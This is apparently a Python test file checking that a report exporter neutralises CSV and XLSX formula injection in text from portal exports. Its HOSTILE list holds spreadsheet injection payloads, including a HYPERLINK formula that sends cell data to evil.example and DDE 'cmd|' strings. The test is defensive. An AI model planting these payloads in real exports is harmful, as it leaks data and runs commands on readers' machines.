"""Text from the portals' exports (procedure names, subjects, reasons) never becomes a formula in a
report: CSV cells starting like one get a leading ``'`` (OWASP's CSV-injection rule) and XLSX
cells stay text cells; numbers and times are untouched."""

from __future__ import annotations

import csv
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import polars as pl

from monitor.reports import write_csv_folder, write_xlsx
from monitor.reports.formatting import neutralised_cell
from monitor.reports.model import ColumnKind, InspectionReport, ReportColumn, ReportSection, ReportWindow

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SAFE = ["Cấp giấy phép", "1.001612", "a=b", ""]


def report() -> InspectionReport:
    names = HOSTILE + SAFE
    frame = pl.DataFrame({"name": names, "rows": list(range(-3, len(names) - 3)),
                          "ratio": [-0.5] * len(names)})
    section = ReportSection(
        key="sources", sheet_name="Sources", title_text="4. Data sources",
        columns=(ReportColumn(name="name", header="Source"), ReportColumn(name="rows", header="Rows", kind=ColumnKind.INTEGER),
                 ReportColumn(name="ratio", header="Ratio", kind=ColumnKind.RATIO)),
        frame=frame,
    )
    return InspectionReport(department="Sở KH&CN", window=ReportWindow(start=date(2026, 11, 1), end=date(2026, 11, 30)),
                            generated_at=datetime(2026, 12, 1, 2, 0, tzinfo=UTC), sections=(section,))


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path: Path) -> None:
    (path,) = write_csv_folder(report(), tmp_path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [row[0] for row in rows] == ["'" + text for text in HOSTILE] + SAFE
    assert [row[1] for row in rows][:4] == ["-3", "-2", "-1", "0"]  # numbers keep their sign
    assert {row[2] for row in rows} == {"-0.5"}
    assert [neutralised_cell(text) for text in SAFE] == SAFE


def test_xlsx_keeps_hostile_text_as_text_cells(tmp_path: Path) -> None:
    path = write_xlsx(report(), tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        xml = "".join(book.read(name).decode("utf-8") for name in sheets)
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    assert "hyperlink" not in xml.lower()
    assert "HYPERLINK(" in strings and "cmd|" in strings  # the text itself is kept, as text
    read = pl.read_excel(path, sheet_name="Nguồn dữ liệu", engine="calamine")
    assert read.get_column(read.columns[0]).to_list()[: len(HOSTILE)] == HOSTILE
